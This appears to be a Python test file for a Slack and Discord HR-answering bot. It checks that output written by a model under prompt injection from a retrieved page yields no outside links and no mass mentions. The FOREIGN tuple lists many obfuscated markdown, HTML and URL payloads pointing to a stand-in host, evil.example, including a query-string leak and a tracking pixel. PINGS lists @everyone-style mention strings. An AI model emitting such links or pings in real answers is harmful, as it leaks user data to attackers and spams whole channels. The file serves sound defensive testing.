"""A model that an injected page turned: whatever it streams, nothing foreign is linked to and nobody is pinged."""

import html
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.chat.answer_view import AnswerView, of_answer
from adapters.discord.replies.rendering import drawn, sources_embed
from adapters.slack.replies import mrkdwn
from adapters.slack.replies import rendering as slack
from bot.answering.answerer import Answerer
from bot.model import Answer, Question
from bot.text import links
from tests.support.fakes import FakeRetrieval, FakeRetriever, FakeWriter, Says, make_passage

NOW = datetime(2026, 11, 1, tzinfo=UTC)
PAGE = make_passage(
    "You get 25 days of leave. See https://hr.example/leave for more. <!channel> @everyone <@U123> [x](https://hr.example/x)",
    title="Leave [now](https://evil.example/title) <!here> @everyone",
    owners=("[Ada](https://evil.example/owner) <@U999>",),
)
FOREIGN = (
    "https://evil.example/?q=25",
    "[here](https://evil.example/?q=25)",
    "[[here]](https://evil.example/?q=25)",
    r"[he\]re](https://evil.example/?q=25)",
    "[he\nre](https://evil.example/?q=25)",
    '[here](https://evil.example/?q=25 "t (u)")',
    "![![a](https://evil.example/1)](https://evil.example/2)",
    "![pixel](https://evil.example/p.png?q=25)",
    "-https://evil.example/?q=25 ./https://evil.example @https://evil.example _https://evil.example_",
    "&#104;ttps://evil.example/?q=25",
    "&amp;amp;lt;https://evil.example|here&amp;amp;gt;",
    "[here]&lpar;https://evil.example/?q=25&rpar;",
    "~~~\nhttps://evil.example/?q=25\n~~~",
    "```\nhttps://evil.example/?q=25\n```",
    "`https://evil.example/?q=25`",
    "<https://evil.example/?q=25|here>",
    "<https://evil.example/?q=25>",
    '<a href="https://evil.example/?q=25">here</a>',
    "[here][1]\n\n[1]: https://evil.example/?q=25",
    "[here](//evil.example/?q=25)",
    "[here](https:\\/\\/evil.example/?q=25)",
    "https://hr.example@evil.example/?q=25",
    "https://hr.example/leave?q=https://evil.example/25",
    "http\u200bs://evil.example/?q=25",
    "www.evil.example/?q=25 mailto:x@evil.example",
)
PINGS = (
    "@everyone",
    "@here",
    "<!channel>",
    "<!here>",
    "<@U123>",
    "<@&99>",
    "<#C1>",
    "<!subteam^S1>",
    "&lt;!channel&gt;",
)
_ADDRESS = re.compile(
    r"(?:[a-z][a-z0-9+.-]*:\\?/\\?/|\bwww\.(?=\w)|mailto:)[^\s<>|]*|\]\(\s*<?[^\s)>]*", re.IGNORECASE
)
_SLACK_PING = re.compile(r"<[@!#][^\s<>]|@(?:everyone|here|channel)\b", re.IGNORECASE)
_DISCORD_PING = re.compile(r"<(?:@[!&]?|#)\w|@(?:everyone|here)\b", re.IGNORECASE)


async def answered(text: str) -> Answer:
    """The core's answer where a model writes this on the page's word."""
    writer = FakeWriter((Says("You get 25 days of leave. ", on=(0,)), Says(text, on=(0,))))
    found = FakeRetrieval(passages=(PAGE,), strong=True, decision="")
    answerer = Answerer(retriever=FakeRetriever(found), writer=writer)
    return await answerer.answer(Question("How much leave?", frozenset({"everyone"})))


def slack_texts(answer: Answer) -> Iterator[str]:
    """Every text that Slack is sent, escaped as it is."""
    view = _view(answer)
    for message in slack.as_messages(slack.pages(view.text), slack.tail(view)):
        yield from _strings(message)
    yield from _strings(slack.sources_message(view))
    yield slack.plain_message(view)


def discord_texts(answer: Answer) -> Iterator[str]:
    """Every text that Discord is sent."""
    view = _view(answer)
    for embeds in (True, False):
        for page, embed, _ in drawn(view, view.buttons, embeds=embeds).parts():
            yield page
            yield from _strings(embed.to_dict() if embed else {})
    yield from _strings(sources_embed(view).to_dict())


def _view(answer: Answer) -> AnswerView:
    return of_answer(answer, now=NOW, private=False, stale_after=timedelta(days=1), can_ask_human=True)


def _strings(data: Any) -> Iterator[str]:
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for value in data.values():
            yield from _strings(value)
    elif isinstance(data, list | tuple):
        for value in data:
            yield from _strings(value)


def foreign(answer: Answer) -> list[str]:
    """Addresses in what is shown that no passage holds."""
    texts = [*map(html.unescape, slack_texts(answer)), *discord_texts(answer)]
    return [each for text in texts for each in _ADDRESS.findall(text) if "evil" in each or "q=25" in each]


def pings(answer: Answer) -> list[str]:
    """What either platform would take for a mention."""
    found = [each for text in slack_texts(answer) for each in _SLACK_PING.findall(text)]
    return found + [each for text in discord_texts(answer) for each in _DISCORD_PING.findall(text)]


@pytest.mark.parametrize("text", FOREIGN)
async def test_no_foreign_link(text: str, record_property) -> None:
    """What a page made the model link to leaves no address on either platform."""
    record_property("surfaces", 2)
    assert foreign(await answered(text)) == []


async def test_the_rest_is_shown() -> None:
    """What the pages support comes through beside an attack."""
    answer = await answered("\n\n[More here](https://evil.example/?q=25) about leave.")
    assert answer.text == "You get 25 days of leave. [1] \n\nMore here about leave. [1]"


@pytest.mark.parametrize("ping", PINGS)
async def test_no_ping(ping: str, record_property) -> None:
    """Nobody is called by what a page or a model says."""
    record_property("surfaces", 2)
    assert pings(await answered(f"Tell {ping} about the 25 days of leave.")) == []


@pytest.mark.slow
async def test_any_mixture(record_property) -> None:
    """Pieces of attacks put together at random are no link and no ping either."""
    pieces = [
        *FOREIGN,
        *PINGS,
        *"[]()<>!|`*_ \n",
        "](",
        "](<",
        "https://",
        "evil.example",
        "&#x3a;",
        "\u200b",
        "word ",
    ]
    tried = 0

    @settings(max_examples=300)
    @given(st.lists(st.sampled_from(pieces), min_size=1, max_size=8).map("".join))
    def mixture(text: str) -> None:
        nonlocal tried
        tried += 1
        answer = _run(answered(text))
        assert foreign(answer) == []
        assert pings(answer) == []

    mixture()
    record_property("texts", tried)


def _run(answering: Any) -> Answer:
    """To its end: with fakes nothing in it waits."""
    try:
        while True:
            answering.send(None)
    except StopIteration as ended:
        return ended.value


@pytest.mark.parametrize(
    "text",
    ["www.**evil.example** ", "https:**//evil.example**", "www.`evil.example`", "ht**tps://evil.example**"],
)
def test_notifications_put_no_address_together(text: str) -> None:
    """A notification is the answer without its signs: what they held apart becomes no address."""
    shown = mrkdwn.fallback(f"See {text} now.")
    assert links.addresses(shown) <= links.addresses(text)
    assert "www.evil" not in shown
